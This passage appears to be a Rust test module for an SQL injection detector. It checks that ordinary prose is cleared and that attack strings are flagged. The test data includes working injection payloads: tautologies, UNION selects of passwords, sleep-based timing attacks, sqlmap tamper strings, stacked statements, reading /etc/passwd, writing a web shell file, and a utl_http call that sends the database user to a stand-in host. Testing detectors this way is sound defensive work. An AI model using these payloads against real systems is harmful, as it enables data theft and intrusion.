            // A hyphen between letters of other scripts.
            "Orašanin, Marisavljević-Aćin and Gušatović",
            "วงศ์สีสุก, พลจรัส-วงศ์ค้างพลู and อินทโชติ",
            // Choices: `or` with no name a blind tautology guesses.
            "tea or coffee",
            "Yes or No",
            "sooner or later",
            "Smith, Jones or Brown",
            "red, green or blue",
            "pickup or delivery",
            "Five or More",
            "paid or unpaid",
            "David or Sid",
            // After a number that opens the value.
            "10 or more",
            "5 and up",
            "2 or fewer, please",
            // Names with digits after their first letter.
            "A1 or B2",
            "v1 or v2",
        ] {
            assert!(names_joined(v), "{v}");
            assert_eq!(sqli.score(v), 0.0, "{v}");
        }
        for v in [
            // `or` with a key, a row number or the clock; numbers,
            // literals, keywords, `xor` and `not`, marks.
            "x or id",
            "x OR ID",
            "tea or rowid",
            "x or userId",
            "x or UserID",
            "a or b-id",
            "x or rownum",
            "x or localtime",
            "x or true",
            "1 or 2",
            "1 and 1",
            "AND true",
            "x and null",
            "x xor y",
            "x or not y",
            "Ayala, Grant and Austin",
            "a and b union select 1",
            "x and sleep(5)",
            "x and 1=1",
            "x' and 'y",
            "x -1 and y",
            "x && y",
            "x || y",
            "x or user_id",
            "and",
            "1 or id",
            "0 or rowid",
            "1 or true",
            "1 or 1",
            "10 more or less",
            "10 or",
            "10  or more",
            "-1 or more",
            "1.5 or more",
            "10 ormore",
            "x1 or id",
            "a or 1b",
            "a or b 2",
            "x or 0x1",
        ] {
            assert!(!names_joined(v), "{v}");
        }
        for v in [
            "x or id",
            "x or userId",
            "tea or rowid",
            "AND true",
            "1 and 1",
            "admin and 1=1",
        ] {
            assert!(sqli.confirm(v, sqli.score(v)), "{v}");
            assert!(sqli.score(v) >= 0.725, "{v}");
        }
    }

    #[test]
    fn bare_prose_is_left_to_the_grammar() {
        for v in [
            "Converts MS Word files to text, PS, PDF and XML",
            "Perl build helper to guess C++ compiler and flags",
            "Java API to biological data and applications (version 6)",
            "To beer or not to beer -- ShakesBeer",
            "tool to study street networks from OpenStreetMap -- doc",
            // A `;` that ends an item of a list.
            "You must cause any modified files to carry prominent notices stating that You changed the files; and",
            "1. for your internal use and access;",
            "use it at home; or at work; and nowhere else",
        ] {
            assert!(bare_prose(v), "{v}");
            let (sqli, _) = builtin();
            assert!(!sqli.confirm(v, sqli.score(v)), "{v}");
        }
        for v in [
            // No words side by side, or a mark that lets text out.
            "1 union select password from users",
            "1 or sleep(5)",
            "x' or 1=1 and y z",
            "1 or 1 -- x y",
            "a b; drop table t",
            "a b; shutdown with nowait",
            "a b; andrew c",
            "a b; or_x c",
            "a b;; drop table t",
            "a b or 1=1",
            "a b /* c */",
            "a b @@version",
            // Calls written as code, and subqueries, keep their certainty.
            "sleep(5) x, 1 y",
            "name, (select password from users) x y",
        ] {
            assert!(!bare_prose(v), "{v}");
        }
        // A line comment after words side by side cuts nothing that runs;
        // one that keeps an injection before it is judged as before.
        let (sqli, _) = builtin();
        for v in ["1 or 1 -- x y", "1 xor 1 -- a b"] {
            assert!(
                sqli.confirm(v, sqli.score(v)) && sqli.score(v) >= 0.725,
                "{v}"
            );
        }
    }

    #[test]
    fn injections_are_judged_as_each_database_reads_them() {
        let (sqli, _) = builtin();
        let judged = |v: &str| {
            let score = sqli.score(v);
            score >= crate::config::Config::default().sqli_proba && sqli.confirm(v, score)
        };
        // sqlmap's tamper scripts, each passed before the database reading.
        for v in [
            "1%' /*!30322AND SLEEP(5) AND 'QmlC%'='QmlC*/",
            "1%'/*!0AND ELT(4172=4172,SLEEP(5))/*!0AND 'HBeK%'='HBeK",
            "1 1.e) AND ELT 1.e(6120=6120 1.e,SLEEP 1.e(5 1.e) 1.e) AND (3433=3433",
            "1%'\tWAITFOR\x01DELAY\x05'0:0:5'\x05AND\x0e'fqNt%'='fqNt",
            "1%\\';SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)--",
            "(CASE WHEN binary 4012=binary 2989 THEN 4012 ELSE binary NULL END)",
            "*/ or 1=1 /*",
            "/*!50000union*/ select password from users",
        ] {
            assert!(judged(v), "{v:?}");
        }
        // Text with those marks is not SQL in either reading.
        for v in [
            "Use 1.e(x) notation in the formula",
            "Price: 3.e, 4.e, 5.e",
            "Ticket 4711\x01 (pasted from a terminal)",
            r#"{\"name\": \"Jane\", \"age\": 3}"#,
            r"It\'s here",
            "binary editor and viewer",
            "/* Theme: Autumn | v2.1 */",
            "/* now make a new head in the exact same spot */ -- Larry Wall in cons.c",
        ] {
            assert!(!judged(v), "{v:?}");
        }
        // Comments around SQL, two block comments, a versioned one, a line
        // comment that a line break ends.
        for v in [
            "/**/or/**/1=1",
            "/* x */ or 1=1 --",
            "/* x */ /* y */",
            "/*!50000union*/ select 1",
            "/* x */ -- y\nunion select 1",
        ] {
            assert!(!only_a_comment(v), "{v:?}");
        }
        assert!(only_a_comment("/* x */ #y"));
    }

    #[test]
    fn backticks_typed_for_apostrophes_are_left_to_the_grammar() {
        let (sqli, _) = builtin();
        let judged = |v: &str| sqli.confirm(v, sqli.score(v));
        for v in [
            "Don`t forget to call me",
            "O`Brien",
            "aujourd`hui je suis malade",
        ] {
            assert!(backtick_apostrophes(v), "{v}");
            assert!(!judged(v), "{v}");
        }
        // Random text without an SQL word (a generated password).
        for v in [
            "ui`Betfsb8juD^qn",
            "300MHz Pentium Pro MMX + Windows NT = 4.77MHz 8088.",
        ] {
            assert!(wordless(v), "{v}");
            assert!(!judged(v), "{v}");
        }
        // Words inside quotes in one context are outside them in another.
        for v in [
            "-1' or 5903=('a'||(select 1)||'b') and 'x'='x",
            "x'#",
            "@@version",
            "a`(1)",
        ] {
            assert!(!wordless(v), "{v}");
        }
        assert!(!backtick_apostrophes("`id` or 1=1 --"));
        // Still read where they inject: a backquoted sort key broken out of,
        // punctuation alone in a string.
        for v in ["id`desc,(select sleep(5))#", "1'-'1", "1`=`1"] {
            assert!(judged(v), "{v}");
        }
    }

    #[test]
    fn words_side_by_side() {
        for v in [
            "123 Main St ",
            "2 Elm St Unit ",
            "Deliver to side entrance, use code ",
        ] {
            assert!(only_side_by_side_words(v.as_bytes()), "{v}");
        }
        // One operand, an operator, an SQL word: left to the grammar.
        for v in [
            "Main ",
            "1 - 2 ",
            "1 or x ",
            "x is null ",
            "t.id ",
            "(1) x ",
        ] {
            assert!(!only_side_by_side_words(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn hashtags_are_cleared() {
        let (sqli, _) = builtin();
        for v in [
            "#tbt",
            "#Python",
            "#SQL",
            "#data #ootd",
            " #rust ",
            "#été",
            "#2024_recap",
        ] {
            assert!(hashtags(v), "{v}");
            assert_eq!(sqli.score(v), 0.0, "{v}");
        }
        for v in [
            "#",
            "# #",
            "#x\nunion select 1",
            "#x\tor 1=1",
            "1#",
            "#x or 1=1",
            "admin'#",
            "#x-- ",
            "x#y",
            "##x",
            "#x;drop table t",
        ] {
            assert!(!hashtags(v), "{v}");
        }
        // Left to the model and the grammar as before.
        assert_raised_and_confirmed("#x\nunion select password from users");
    }

    #[test]
    fn ussd_codes() {
        for v in ["*123#", "*100*1234567890#", "#31#", "*#06#", " *135# "] {
            assert!(ussd_code(v), "{v}");
        }
        for v in ["*#", "123#", "*123", "*1 23#", "1*123#", "*123#x", "**#"] {
            assert!(!ussd_code(v), "{v}");
        }
    }

    #[test]
    fn keypad_codes() {
        for v in [
            "use code 9876#",
            "Deliver to side entrance - use code 9876# ",
        ] {
            assert!(ends_with_keypad_code(v).is_some(), "{v}");
        }
        for v in [
            "9876#",
            "code 9876#",
            "1 or 1=1#",
            "use code 123456789#",
            "use code #",
            "1 where 4985=4985 order by 1#",
            "1 union select 1#",
        ] {
            assert!(ends_with_keypad_code(v).is_none(), "{v}");
        }
    }

    #[test]
    fn stacked_statements() {
        for v in [
            "'; EXEC master..xp_dirtree '\\\\x\\y'--",
            "1;declare @q varchar(9)",
            "x';+SHUTDOWN--",
            "1; Reconfigure",
        ] {
            assert!(stacks_a_statement(v), "{v}");
        }
        for v in [
            "exec",
            "a;b",
            "1; executive summary",
            "see: exec",
            "Color; exec; a, Window",
        ] {
            assert!(!stacks_a_statement(v), "{v}");
        }
    }

    /// The built-in detector raises `v` to where the grammar decides, and
    /// the grammar confirms it.
    fn assert_raised_and_confirmed(v: &str) {
        let (sqli, _) = builtin();
        let score = sqli.score(v);
        assert!(
            score >= GRAMMAR_DECIDES && sqli.confirm(v, score),
            "{v} {score}"
        );
    }

    #[test]
    fn tautologies() {
        for v in [
            "'hi' or 'x'='x';",
            "\"a\" or \"b\"=\"b\"",
            "'' or ''=''",
            "'abc' oR 'k'='k'",
            "'x' || 'a'='a'",
            "1 AND (1=1",
            "x' or 'q' = 'q' --",
            "' or 'x'='x",
            " OR x=x",
            "1 or user_id = user_id",
            "' HAVING 1=1 --",
            "x' and (a1=a1",
        ] {
            assert!(joins_a_tautology(v), "{v}");
        }
        for v in [
            "'Yes' or 'No' = required",
            "Q: is 'a'='a' or 'a'='b'?",
            "'x'='x' is always true",
            "True or False: 2 = 2",
            "'a' or 'b'=='b'",
            "1 or 12=1",
            "1 or 1=12",
            "'ab' or 'a'='ab'",
            "color=red",
            "=",
            "'",
            " OR x=y",
            "1 or x=xy",
            "a or b.x=x",
            "1 or 2x=2x",
            "x=x",
            "size=size or",
        ] {
            assert!(!joins_a_tautology(v), "{v}");
        }
        // Raised to where the grammar decides: prose is cleared there, the
        // injection is not.
        let (sqli, _) = builtin();
        let prose = "Choose 'Small' or 'Large' = 'Large' recommended";
        assert!(!sqli.confirm(prose, sqli.score(prose)), "{prose}");
        for v in ["'hi' or 'x'='x';", "\"a\" or \"b\"=\"b\"", " OR x=x"] {
            assert_raised_and_confirmed(v);
        }
    }

    #[test]
    fn names_with_years() {
        for v in [
            "Mozart (1756-1791)",
            "Austen, Jane (1775-1817)",
            "English, Middle (1100-1500)",
            "Bach, J. S. (1685-1750)",
            "Jane Doe (1950)",
            "Dürer, Albrecht (1471-1528) ",
        ] {
            assert!(dated_name(v), "{v}");
        }
        for v in [
            "sleep (1000-1000)",
            "version (1000)",
            "pg_sleep (1950)",
            "md5 (1950)",
            "Smith or id (1950-2000)",
            "x, union (1950-2000)",
            "Mozart (1791-1756)",
            "Mozart(1756-1791)",
            "Mozart (1756-1791)--",
            "Mozart (17-91)",
            "Mozart' (1756)",
            "(1756-1791)",
        ] {
            assert!(!dated_name(v), "{v}");
        }
    }

    #[test]
    fn concatenation_to_a_closed_string() {
        for v in [
            "' || utl_http.request('http://x.example/'||user) || '",
            "'||user||'",
            "x' ||(select 1)|| '",
            "x'+convert(int,@@version)+'",
            "' + db.schema.f (1) + '",
            "\"||@@version||\"",
        ] {
            assert!(concatenates_to_a_string(v), "{v}");
        }
        for v in [
            "it's 'a'||'b'",
            "x = y || 'default'",
            "Tom's || Jerry's",
            "'+ 5",
            "'hi' + x",
            "a || b",
            "'|| 2",
        ] {
            assert!(!concatenates_to_a_string(v), "{v}");
        }
        assert_raised_and_confirmed("' || utl_http.request('http://x.example/'||user) || '");
        assert_raised_and_confirmed("'||user||'");
        // Raised, then judged by the grammar: prose around it is no query.
        let (sqli, _) = builtin();
        let prose = "say 'hi' + (wave) to everyone";
        assert!(!sqli.confirm(prose, sqli.score(prose)), "{prose}");
    }

    #[test]
    fn quotations_in_prose_go_to_the_grammar() {
        for v in [
            "Duplicate entry 'jane@example.com' for key 'users.email'",
            "It's 'done', she said",
            "Renamed \"a b\" to \"c\" today",
        ] {
            assert!(quotations_in_prose(v), "{v}");
        }
        for v in [
            "x' or 'a'='a",
            "Duplicate entry 'x' or sleep(5) for key 'y'",
            "1 INTO OUTFILE '/var/www/shell.php'",
            "1 and 'x' sounds like 'x'",
            "Entry 'x' -- for key 'y'",
            "'x' is 'y'",
            "Entry ' x' for key 'y'",
            "Entry 'x'= for key 'y'",
            "Entry 'x for key y",
        ] {
            assert!(!quotations_in_prose(v), "{v}");
        }
        let (sqli, _) = builtin();
        let v = "Duplicate entry 'jane@example.com' for key 'users.email'";
        assert!(!sqli.confirm(v, sqli.score(v)), "{v}");
    }

    #[test]
    fn lengths_in_prose_go_to_the_grammar() {
        assert!(length_in_prose("6' HDMI 2.1 cable (8K@60Hz)"));
        for v in [
            "1' in boolean mode);select (case when (1=1) then 1 else 1/(select 0) end)--",
            "10' ladder -- x",
            "10' ladder = x",
            "10' ladder union select password from users",
        ] {
            assert!(!length_in_prose(v), "{v}");
        }
        let (sqli, _) = builtin();
        let v = "6' HDMI 2.1 cable (8K@60Hz)";
        assert!(!sqli.confirm(v, sqli.score(v)), "{v}");
    }

    #[test]
    fn code_fences() {
        for v in [
            "```",
            "````",
            "```js",
            "```rust ",
            "```c++",
            "```objective-c",
            "```sql",
        ] {
            assert!(code_fence(v), "{v}");
            assert_eq!(builtin().0.score(v), 0.0, "{v}");
        }
        for v in [
            "``",
            "```js```",
            "``` js",
            "```'",
            "```;drop table t",
            "x```",
            "```#",
        ] {
            assert!(!code_fence(v), "{v}");
        }
    }

    #[test]
    fn elisions_in_prose_go_to_the_grammar() {
        let (sqli, _) = builtin();
        for v in ["Shakin' All Over", "Born to Be Wild (Rockin' Version)"] {
            assert!(elisions_in_prose(v), "{v}");
            assert!(!sqli.confirm(v, sqli.score(v)), "{v}");
        }
        for v in [
            // A word SQL joins conditions with, a comment, a call, a mark.
            "admin' and I can't change it",
            "Shakin' All Over -- live",
            "Keep On Truckin' sleep(5) x",
            "Shakin' All Over; drop table t",
            "Shakin' All Over'",
        ] {
            assert!(!elisions_in_prose(v), "{v}");
        }
    }

    #[test]
    fn calls_and_casts_after_a_breakout_go_to_the_grammar() {
        let (sqli, _) = builtin();
        let blocked = |v: &str| {
            let score = sqli.score(v);
            score >= crate::config::Config::default().sqli_proba && sqli.confirm(v, score)
        };
        for v in [
            "x' or version() or 'y",
            "x' or user() or 'y",
            "' or jsonb_path_exists('{\"a\":1}', '$.a')-- -",
            "z' && uuid() && 'z",
        ] {
            assert!(joins_a_call(v), "{v}");
            assert!(blocked(v), "{v}");
        }
        for v in [
            "Select 'Yes' or item(s) below",
            "'Tom' and Jerry(cat)",
            "x' or y",
            "x' or (1)",
            "x' orf(1)",
        ] {
            assert!(!joins_a_call(v), "{v}");
        }
        for v in [
            "1 or '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb",
            "' or '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb-- -",
        ] {
            assert!(casts_a_literal(v), "{v}");
            assert!(blocked(v), "{v}");
        }
        for v in ["std::string s", "fe80::1", "Foo::Bar", "'a' :: b"] {
            assert!(!casts_a_literal(v), "{v}");
        }
    }

    #[test]
    fn bit_and_hex_literals_are_true() {
        for (v, len) in [("b'1'", 4), ("X'31'", 5), ("0x1", 3), ("0b101 ", 5)] {
            assert_eq!(bit_or_hex_true(v.as_bytes()), Some(len), "{v}");
        }
        for v in ["b'0'", "x''", "0x0", "0b", "b'1", "bx'1'", "0x00"] {
            assert_eq!(bit_or_hex_true(v.as_bytes()), None, "{v}");
        }
        for v in ["1 or b'1'", "1 or x'31'", "1 || b'1'", "id or 0x01"] {
            assert!(joins_true(v), "{v}");
        }
        for v in ["Portland, OR 0x0", "1 or b'0'", "tea or box'1'"] {
            assert!(!joins_true(v), "{v}");
        }
    }

    #[test]
    fn long_options() {
        for v in [
            "--help",
            "--version",
            "--dry-run",
            " --force ",
            "--no-cache",
            "--x2",
        ] {
            assert!(long_option(v), "{v}");
            assert_eq!(builtin().0.score(v), 0.0, "{v}");
        }
        for v in [
            "--",
            "-- -",
            "--+",
            "---",
            "--1",
            "-help",
            "--sleep(5)",
            "--x or 1=1",
            "--a'",
            "--depth=1",
            "--a;drop table t",
            "x--help",
        ] {
            assert!(!long_option(v), "{v}");
        }
        // After an injection, such a word is still the comment that ends it.
        let sqli = builtin().0;
        for v in [
            "' or 1=1 --help",
            "1 union select password from users--force",
        ] {
            assert!(sqli.score(v) >= 0.5, "{v}");
        }
    }

    #[test]
    fn operator_between_quotes() {
        for v in [
            "'='", "'-'", "'*'", "'&'", "'^'", "'LIKE'", "' like '", "\"=\"", " '|' ", "'<>'",
        ] {
            assert!(quoted_operator(v), "{v}");
        }
        for v in [
            "'",
            "''",
            "'a'",
            "'-",
            "-'",
            "'='x",
            "'=\"",
            "'not'",
            "'--'",
            "'= 1'",
            "the '-' key",
        ] {
            assert!(!quoted_operator(v), "{v}");
        }
        for v in [
            "'='", "'-'", "'*'", "'&'", "'^'", "'LIKE'", "\"=\"", "'%'", "'/'",
        ] {
            assert_raised_and_confirmed(v);
        }
    }

    #[test]
    fn true_joined_by_or() {
        for v in [
            "' or true or '",
            "1 || true",
            "x' OR TRUE-- -",
            "1 xor (true)",
            "id or 1",
            "x OR 2",
            "x' or 1 or '",
            "x or 100",
            "x || 7",
        ] {
            assert!(joins_true(v), "{v}");
        }
        for v in [
            "true or false",
            "1 and true",
            "' or trueness",
            "' or untrue",
            "that's true",
            "true",
            "x or 0",
            "x or 0.0",
            "x or 1.5",
            "Portland, OR 97201",
            "x and 1",
            "v1.2 or v1.3",
            "x or 1a",
            "x or a1",
        ] {
            assert!(!joins_true(v), "{v}");
        }
        assert_raised_and_confirmed("' or true or '");
        assert_raised_and_confirmed("id or 1");
        // Raised, then judged by the grammar: words side by side are no
        // expression.
        let (sqli, _) = builtin();
        for v in ["Table for 2 or 3", "size 8 or 9 please"] {
            assert!(!sqli.confirm(v, sqli.score(v)), "{v}");
        }
    }

    #[test]
    fn literals_then_a_comment() {
        for v in [
            "'1' -- -",
            "\"admin\" --",
            "'5' #",
            "42 -- x",
            " 'jane@x.io' --+ ",
        ] {
            assert!(literal_then_comment(v), "{v}");
        }
        for v in [
            // Quotations and their attributions; more after the literal.
            "\"Rosebud!\" -- Orson Welles",
            "'Best' -- Tom Smith",
            "\"Stay hungry, stay foolish.\" -- Steve Jobs",
            "'1' or 1=1 --",
            "'1' --\n or 1=1",
            "admin --",
            "'1",
        ] {
            assert!(!literal_then_comment(v), "{v}");
        }
    }

    #[test]
    fn pattern_matches() {
        for v in [
            "x' OR full_name LIKE '%Bob%",
            "1' AND password like 'a%",
            "x' and pass NOT LIKE 'a%",
            "x' or name rlike '^a",
            "q' || u.name LIKE \"%",
            "') or (login like 'adm%",
        ] {
            assert!(joins_a_pattern_match(v), "{v}");
        }
        for v in [
            "I like 'jazz' or rock",
            "Sounds like 'rain' or 'wind'",
            "x' or name like x",
            "x' or 1 like '1",
            "x' or name_like 'a",
            "x' or name likes 'a",
            "like 'a'",
            "or like 'a'",
        ] {
            assert!(!joins_a_pattern_match(v), "{v}");
        }
        let (sqli, _) = builtin();
        let prose = "Dogs and cats like 'treats' (chicken)";
        assert!(!sqli.confirm(prose, sqli.score(prose)), "{prose}");
        assert_raised_and_confirmed("x' OR name LIKE '%a%");
    }

    #[test]
    fn the_shape_table_lets_each_rule_see_its_values() {
        for v in [
            "rgb(255, 170, 0)",
            " 1px solid #ccc\n",
            "var(--main-color)",
            "86ffZR@8rjN6h4Wi",
            "2vC#wXQ&HdnSh33&",
            "aB3-xY7.kL9:mN2",
            "3 * (4 + 5) = 27",
            "max(3, 7) = 7",
        ] {
            assert!(harmless_shape(v, true), "{v}");
        }
        assert!(harmless_shape("rgb(1, 2, 3)", false));
        // A secret is judged by each language's rule; arithmetic only by SQL's.
        assert!(harmless_shape("86ffZR@8rjN6h4Wi", false));
        assert!(!harmless_shape("alert(1)+xK9#mP2", false));
        assert!(!harmless_shape("3 * (4 + 5) = 27", false));
        assert_eq!(shapes(b"Jane O'Brien"), 0);
    }

    #[test]
    fn waiting() {
        for v in [
            "1-sleep(5)",
            "1|SLEEP(5)",
            "1-pg_sleep(5)",
            "1-dbms_lock.sleep(5)",
            "1*benchmark(5000000,md5(1))",
            "1-randomblob(1000000000)",
            "1; WAITFOR  DELAY '0:0:5'",
            "I need sleep(lots of it)",
        ] {
            assert!(waits(v), "{v}");
        }
        // With a space before the parenthesis, prose (`sleep (on)`: the
        // generated benign corpus has four such values) is left to the model.
        for v in [
            "oversleep(5)",
            "sleep (5)",
            "sleep",
            "wait for delay",
            "waitfor it",
        ] {
            assert!(!waits(v), "{v}");
        }
    }

    #[test]
    fn reading_a_table() {
        for v in [
            "1 union select u.password from users u",
            "x' UnIoN/**/ALL/**/SeLeCt 1--",
            "1+union+distinct+select+1",
            "1 union(select 1)",
            "Credit Union Select Checking",
            "x, (select password from users)",
            "1 and (/**/SELECT 1 FROM dual)",
            "Choose a size (select one from the list)",
        ] {
            assert!(reads_a_table(v), "{v}");
        }
        for v in [
            "the union selected a delegate",
            "reunion select",
            "union, select",
            "union",
            "x union /* open comment select",
            "trade-union selection",
            "(select 1)",
            "(selection from the menu)",
            "(select all) fromage",
        ] {
            assert!(!reads_a_table(v), "{v}");
        }
    }

    #[test]
    fn a_sharp_in_prose_is_for_the_grammar() {
        for v in [
            "Looking for a C# job",
            "interactive C# shell",
            "Nocturne in C# minor, Op. 27",
        ] {
            assert!(sharp_in_prose(v), "{v}");
        }
        for v in [
            "C#",
            "C# developer",
            "1;BEGIN DBMS_LOCK.SLEEP(5); END# gEZI",
            "x' or name# ab",
            "use code 1234#",
        ] {
            assert!(!sharp_in_prose(v), "{v}");
        }
        // The grammar clears the prose and still reads the injections.
        let (s, _) = builtin();
        for v in ["Looking for a C# job", "interactive C# shell"] {
            let score = s.score(v);
            assert!(
                score < GRAMMAR_DECIDES || !s.confirm(v, score),
                "{v} {score}"
            );
        }
        for v in [
            "1 or id# x",
            "1 union select password from users# x",
            "id or true# a",
        ] {
            let score = s.score(v);
            assert!(
                score >= GRAMMAR_DECIDES && s.confirm(v, score),
                "{v} {score}"
            );
        }
    }

    #[test]
    fn heights_and_headings() {
        assert!(prose_the_model_misreads("  # Title"));
        for v in [
            "Don't 'select all'",
            "It's '50/50'",
            "we're 'in'",
            "I'm",
            "can't",
        ] {
            assert!(opens_with_contraction(v), "{v}");
        }
        for v in ["admin'union select 1", "'s", "x' or 1", "O'Neil's", "cat't"] {
            assert!(!opens_with_contraction(v), "{v}");
        }
        assert!(!prose_the_model_misreads("Title #1"));
        // A short year in prose; not a time, nor beside a construct that
        // reads a table or waits.
        assert!(short_year_in_prose("Summer '24 -- sale ends Sunday"));
        assert!(short_year_in_prose("the '80s -- music"));
        for v in [
            "1' waitfor delay '00:00:10'--",
            "'80s union select 1,2-- -",
            "Summer '24'; drop table t-- -",
            "x' or 1=1-- -",
        ] {
            assert!(!short_year_in_prose(v), "{v}");
        }
        let (s, _) = builtin();
        let v = "Summer '24 -- sale ends Sunday";
        assert!(!s.confirm(v, s.score(v)), "{v}");
        let v = "Summer '24' or '1'='1";
        assert!(
            s.score(v) >= GRAMMAR_DECIDES && s.confirm(v, s.score(v)),
            "{v}"
        );
        // Lowered to where the grammar decides, which still finds the
        // injection after the inch mark or the comment.
        let (s, _) = builtin();
        for v in [
            "5'11\" or 1=1 --",
            "# x\nor 1=1",
            "It's' or 1=1 --",
            "Don't' union select password from users--",
            "select * from users where id=1",
            "select load_file('/etc/passwd')",
            "select @@version",
            "select pg_sleep(5)",
        ] {
            let score = s.score(v);
            assert!(score >= GRAMMAR_DECIDES, "{v} {score}");
            assert!(s.confirm(v, score), "{v}");
        }
        assert!(opens_with_select("  Select all from the summer collection"));
        assert!(!opens_with_select("selection of the week"));
        assert!(!opens_with_select("I select all"));
        let v = "Select all from the summer collection";
        assert!(!s.confirm(v, s.score(v)), "{v}");
    }

    #[test]
    fn injection_tails() {
        assert_eq!(
            injection_tail("Mozilla/5.0 (X11; Linux x86_64)' or 1=1--"),
            Some("' or 1=1--")
        );
        assert_eq!(
            injection_tail("Room 12 (second floor)\") union select 1--"),
            Some("\") union select 1--")
        );
        for v in [
            "O'Brien and O'Neil, partners",
            "admin' or 1=1--",
            "ampolla, l'",
            "espluga de francol l' x",
            "Jane O'Brien-Smith ''",
            "Rue de l'Église 7, 75001 Paris",
            "Straße d'über 12, 8001 Zürich",
            "no quote at all here",
        ] {
            assert_eq!(injection_tail(v), None, "{v}");
        }
    }
}
